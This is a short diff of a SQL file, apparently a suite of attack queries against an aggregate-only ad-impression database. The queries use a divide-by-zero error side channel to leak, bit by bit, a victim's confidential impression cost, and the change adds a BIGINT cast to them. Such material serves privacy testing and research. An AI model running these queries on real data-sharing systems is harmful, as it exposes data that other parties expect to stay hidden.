@@ -97,7 +97,7 @@ SELECT SUM(0 / POSITION('solo' IN campaign)) AS n FROM dsp_impressions
 -- # a bit of the victim's cost in each of three sums of zeros
 -- secret cost
 -- learns what the victim's impression cost
-SELECT SUM(0 / (POSITION('solo' IN campaign) * MOD(FLOOR(impression_cost / 1000), 2))) AS a,
-  SUM(0 / (POSITION('solo' IN campaign) * MOD(FLOOR(impression_cost / 2000), 2))) AS b,
-  SUM(0 / (POSITION('solo' IN campaign) * MOD(FLOOR(impression_cost / 4000), 2))) AS c
+SELECT SUM(0 / (POSITION('solo' IN campaign) * MOD(CAST(FLOOR(impression_cost / 1000) AS BIGINT), 2))) AS a,
+  SUM(0 / (POSITION('solo' IN campaign) * MOD(CAST(FLOOR(impression_cost / 2000) AS BIGINT), 2))) AS b,
+  SUM(0 / (POSITION('solo' IN campaign) * MOD(CAST(FLOOR(impression_cost / 4000) AS BIGINT), 2))) AS c
 FROM dsp_impressions
